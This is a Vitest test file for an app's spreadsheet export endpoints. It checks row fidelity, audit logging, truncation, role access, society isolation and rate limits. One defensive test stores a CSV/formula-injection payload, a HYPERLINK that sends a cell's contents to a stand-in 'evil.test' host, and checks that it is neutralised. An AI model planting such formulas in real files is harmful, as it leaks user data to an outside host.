/**
 * List exports (`GET <list>/export`, spec deviation 89): each file holds exactly the rows of the
 * list walked page by page through the API with the same stage, search and filters; dates and
 * money are number cells; stored formulas come back neutralised; one audit row per export; the
 * per-minute limit; the row limit's truncation; `/export` is never read as an id.
 * Small EXPORT_BATCH_ROWS and EXPORT_MAX_ROWS make several batches and the truncation cheap.
 */
import { and, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { auditLog, deskRequests, residents, societies } from '../../src/server/db/schema.js';
import type { ListResponse } from '../../src/shared/contracts/common.js';
import type { Complaint } from '../../src/shared/contracts/complaints.js';
import type { AuditRow } from '../../src/shared/contracts/audit.js';
import { auditActionLabel } from '../../src/shared/labels.js';
import { fileComplaint } from '../support/clients/complaints.js';
import { residentTokens, signedInStaff } from '../support/clients/sessions.js';
import { readExport, serialToWall } from '../support/xlsx-export.js';
import { deskRepo } from '../../src/server/desk/repo.js';
import { inSociety } from '../../src/server/db/society-scope.js';
import { DEMO_SIGN_INS } from '../../src/server/seed/demo.js';
import type { SubRole } from '../../src/shared/subroles.js';
import { EXPORTED_LISTS } from '../support/input-endpoints/exports.js';
import { useHarness } from './harness.js';

const GV_COMPLAINTS = 'complaints@greenvalley.test';
const GV_ADMIN = 'super-admin@greenvalley.test';
const LC_COMPLAINTS = 'complaints@lakecity.test';
const MAX_ROWS = 25;

/**
 * Who may export each list: the sub-roles whose menu holds its page (spec section 2 "Menus by
 * sub-role"; button-one's menu also holds the complaint pages; /Audit is super-admin's, spec
 * deviations). Written out here, not read from the product's own table.
 */
const EXPORT_ALLOWED: Record<(typeof EXPORTED_LISTS)[number], readonly SubRole[]> = {
  '/api/complain': ['button-one', 'complian'],
  '/api/security': ['button-one'],
  '/api/nothome': ['button-one'],
  '/api/grocery': ['button-three'],
  '/api/orders': ['button-three'],
  '/api/doctor': ['button-two'],
  '/api/consultations': ['button-two'],
  '/api/bills': ['billing', 'super-admin'],
  '/api/residents': ['status', 'super-admin'],
  '/api/residents/pending': ['status', 'super-admin'],
  '/api/feed': ['cms', 'cms-all'],
  '/api/discounts': ['discounts', 'cms-all'],
  '/api/plots': ['plots', 'cms-all'],
  '/api/audit': ['super-admin'],
};

/** The wall-clock time of `iso` in Asia/Karachi (UTC+5, no DST), 'YYYY-MM-DDTHH:MM:SS'. */
function karachi(iso: string): string {
  return new Date(Date.parse(iso) + 5 * 3_600_000).toISOString().slice(0, 19);
}

describe('list exports (.xlsx)', () => {
  const h = useHarness({ EXPORT_BATCH_ROWS: '4', EXPORT_MAX_ROWS: String(MAX_ROWS), EXPORT_MAX_PER_MINUTE: '100' });
  const { send } = signedInStaff(h);
  const token = residentTokens(h);
  const fileOne = (phone: string, text: string) => fileComplaint(h, phone, text, token);
  let seq = 0;

  /** Every row of a list walked through the API with the cursors, as the web table pages it. */
  async function walk<T>(path: string, query: string, email: string): Promise<T[]> {
    const all: T[] = [];
    let after: number | null = null;
    for (let page = 1; ; page++) {
      const cursor: string = after === null ? '' : `&after=${after}`;
      const res = await send('GET', `${path}?page=${page}${query}${cursor}`, email);
      expect(res.statusCode, res.body).toBe(200);
      const body = res.json<ListResponse<T>>();
      all.push(...body.items);
      if (body.nextAfter === null) return all;
      after = body.nextAfter;
    }
  }

  const gvResident = async () => {
    const [gv] = await h.database.db.select({ id: societies.id }).from(societies).where(eq(societies.name, 'Green Valley'));
    const [r] = await h.database.db
      .select()
      .from(residents)
      .where(and(eq(residents.societyId, gv!.id), eq(residents.status, 'Approve')))
      .limit(1);
    return r!;
  };

  it('exports a complaint stage with its search: the rows of every page of the list, times as date numbers of the society clock', async () => {
    const resident = await gvResident();
    const word = `exportword${++seq}`;
    for (let i = 0; i < 6; i++) await fileOne(resident.phone, `Lift ${word} number ${i}`);
    const listed = await walk<Complaint>('/api/complain', `&stage=new&q=${word}`, GV_COMPLAINTS);
    expect(listed).toHaveLength(6);
    const file = readExport(await send('GET', `/api/complain/export?stage=new&q=${word}`, GV_COMPLAINTS));
    expect(file.header.slice(0, 7)).toEqual(['ID', 'Resident ID', 'Name', 'Phone', 'Address', 'Complaint', 'Filed']);
    // Four-row batches: six rows took two batches, newest first like the list.
    expect(file.rows.map((r) => r[0]?.v)).toEqual(listed.map((c) => c._id));
    expect(file.rows.map((r) => r[5]?.v)).toEqual(listed.map((c) => c.complain));
    for (const [i, row] of file.rows.entries()) {
      const filed = row[6]!;
      expect(filed.t).toBe('n');
      expect(filed.z).toBe('dd/mm/yyyy h:mm AM/PM');
      expect(serialToWall(Number(filed.v))).toBe(karachi(listed[i]!.pressedTime));
    }
    expect(file.about.get('Search')).toBe(word);
    expect(file.about.get('Stage')).toBe('new');
    expect(file.about.get('Rows')).toBe('6');
  });

  it('exports the whole stage across many batches, exactly as the list pages it', async () => {
    const listed = await walk<Complaint>('/api/complain', '&stage=completed', GV_COMPLAINTS);
    expect(listed.length).toBeGreaterThan(4);
    expect(listed.length).toBeLessThanOrEqual(MAX_ROWS);
    const res = await send('GET', '/api/complain/export?stage=completed', GV_COMPLAINTS);
    const file = readExport(res);
    expect(file.rows.map((r) => r[0]?.v)).toEqual(listed.map((c) => c._id));
    expect(res.headers['x-export-rows']).toBe(String(listed.length));
    expect(res.headers['x-export-truncated']).toBeUndefined();
  });

  it('reads a batch as one longer page of the list: PageRequest.size, unsearched and searched, from the top and past a cursor', async () => {
    const resident = await gvResident();
    const word = `batchsize${++seq}`;
    for (let i = 0; i < 14; i++) await fileOne(resident.phone, `Batch ${word} ${i}`);
    const listed = await walk<Complaint>('/api/complain', `&stage=new&q=${word}`, GV_COMPLAINTS);
    const repo = (tx: Parameters<typeof deskRepo>[0]) => deskRepo(tx, 'complaint');
    const read = (req: { page: number; q: string; after?: number; size: number }) =>
      inSociety(h.database.db, resident.societyId, (tx) => repo(tx).list(resident.societyId, 'new', req));
    const searched = await read({ page: 1, q: word, size: 12 });
    expect(searched.items.map((r) => r.id)).toEqual(listed.slice(0, 12).map((c) => c._id));
    const rest = await read({ page: 1, q: word, after: searched.nextAfter!, size: 12 });
    expect(rest.items.map((r) => r.id)).toEqual(listed.slice(12).map((c) => c._id));
    const whole = await read({ page: 1, q: '', size: 13 });
    expect(whole.items).toHaveLength(13);
  });

  it('neutralises a stored formula: =HYPERLINK(…) comes back as text with an apostrophe', async () => {
    const resident = await gvResident();
    const formula = `=HYPERLINK("http://evil.test?"&A1,"x${++seq}")`;
    await fileOne(resident.phone, formula);
    const file = readExport(await send('GET', `/api/complain/export?stage=new&q=${encodeURIComponent(`evil.test?"&A1,"x${seq}`)}`, GV_COMPLAINTS));
    expect(file.rows).toHaveLength(1);
    const cell = file.rows[0]![5]!;
    expect(cell.t).toBe('s');
    expect(cell.v).toBe(`'${formula}`);
    expect(cell.f).toBeUndefined();
  });

  it('writes one audit row per export, and the audit log exports with its filters', async () => {
    const before = await h.database.db.select({ id: auditLog.id }).from(auditLog).where(eq(auditLog.action, 'export'));
    readExport(await send('GET', '/api/complain/export?stage=processing', GV_COMPLAINTS));
    const rows = await h.database.db.select().from(auditLog).where(eq(auditLog.action, 'export'));
    expect(rows.length).toBe(before.length + 1);
    const mine = rows.find((r) => !before.some((b) => b.id === r.id))!;
    expect(mine).toMatchObject({ entity: 'complaint', entityId: 0, actorKind: 'staff' });
    expect(mine.detail).toMatch(/^\/api\/complain\/export\?stage=processing → \d+ rows$/);

    const listed = await walk<AuditRow>('/api/audit', '&action=export', GV_ADMIN);
    const res = await send('GET', '/api/audit/export?action=export', GV_ADMIN);
    const file = readExport(res);
    expect(file.header).toEqual(['ID', 'When', 'Who', 'Actor kind', 'Module', 'Item', 'Action', 'From', 'To', 'Detail']);
    expect(file.rows.map((r) => r[0]?.v)).toEqual(listed.map((r) => r._id));
    // Actions in the words the /Audit screen shows, not the stored code.
    expect(file.rows.every((r) => r[6]?.v === auditActionLabel('export') && r[1]?.t === 'n')).toBe(true);
    expect(auditActionLabel('export')).not.toBe('export');
    expect(file.about.get('Action')).toBe(auditActionLabel('export'));
  });

  it('cuts at EXPORT_MAX_ROWS, newest first, with X-Export-Truncated and a note in the About sheet', async () => {
    const resident = await gvResident();
    const word = `manyrows${++seq}`;
    for (let i = 0; i < MAX_ROWS + 2; i++) await fileOne(resident.phone, `Noise ${word} ${i}`);
    const listed = await walk<Complaint>('/api/complain', `&stage=new&q=${word}`, GV_COMPLAINTS);
    const res = await send('GET', `/api/complain/export?stage=new&q=${word}`, GV_COMPLAINTS);
    const file = readExport(res);
    expect(res.headers['x-export-truncated']).toBe('1');
    expect(res.headers['x-export-rows']).toBe(String(MAX_ROWS));
    expect(file.rows.map((r) => r[0]?.v)).toEqual(listed.slice(0, MAX_ROWS).map((c) => c._id));
    expect(file.about.get('Note')).toMatch(/^Only the newest 25 of the list's rows were exported/);
  });

  it('reads /export as the export, never as an id; bad input is a 400 naming the field; no session is 401', async () => {
    const res = await send('GET', '/api/complain/export?stage=new', GV_COMPLAINTS);
    expect(res.statusCode).toBe(200);
    const bad = await send('GET', '/api/complain/export?stage=archived', GV_COMPLAINTS);
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ field?: string }>().field).toBe('stage');
    const badDay = await send('GET', '/api/audit/export?from=2031-02-30', GV_ADMIN);
    expect(badDay.statusCode).toBe(400);
    expect(badDay.json<{ field?: string }>().field).toBe('from');
    expect((await h.app.inject({ method: 'GET', url: '/api/complain/export?stage=new' })).statusCode).toBe(401);
  });

  it.each(Object.entries(EXPORT_ALLOWED))('%s/export: the sub-roles of its list may export it, every other gets 403', async (list, allowed) => {
    const answers = [];
    for (const { email, subRole } of DEMO_SIGN_INS)
      answers.push(`${subRole} → ${(await send('GET', `${list}/export`, email)).statusCode === 403 ? 403 : 'allowed'}`);
    expect(answers).toEqual(DEMO_SIGN_INS.map(({ subRole }) => `${subRole} → ${allowed.includes(subRole) ? 'allowed' : 403}`));
  });

  it("holds only the caller's society: a Lake City export has none of Green Valley's rows", async () => {
    const resident = await gvResident();
    const word = `gvonly${++seq}`;
    await fileOne(resident.phone, `Gate ${word}`);
    const gvIds = (await h.database.db.select({ id: deskRequests.id }).from(deskRequests).where(eq(deskRequests.societyId, resident.societyId))).map(
      (r) => r.id,
    );
    for (const stage of ['new', 'processing', 'completed']) {
      const file = readExport(await send('GET', `/api/complain/export?stage=${stage}`, LC_COMPLAINTS));
      expect(file.rows.length).toBeGreaterThan(0);
      expect(file.rows.some((r) => gvIds.includes(Number(r[0]?.v)))).toBe(false);
      expect(file.about.get('Society')).toBe('Lake City');
    }
  });
});

describe('list exports: the per-minute limit', () => {
  const h = useHarness({ EXPORT_MAX_PER_MINUTE: '2' });
  const { send } = signedInStaff(h);

  it('refuses the third export in a minute with 429 and a wait, per staff member; the next minute it works again', async () => {
    for (let i = 0; i < 2; i++) expect((await send('GET', '/api/complain/export?stage=new', GV_COMPLAINTS)).statusCode).toBe(200);
    const refused = await send('GET', '/api/complain/export?stage=new', GV_COMPLAINTS);
    expect(refused.statusCode).toBe(429);
    expect(refused.json<{ message: string }>().message).toMatch(/^Too many exports, try again in \d+ (seconds?|minutes?)\.$/);
    // Another staff member has a limit of their own.
    expect((await send('GET', '/api/complain/export?stage=new', LC_COMPLAINTS)).statusCode).toBe(200);
    h.clock.advance(61_000);
    expect((await send('GET', '/api/complain/export?stage=new', GV_COMPLAINTS)).statusCode).toBe(200);
  });
});
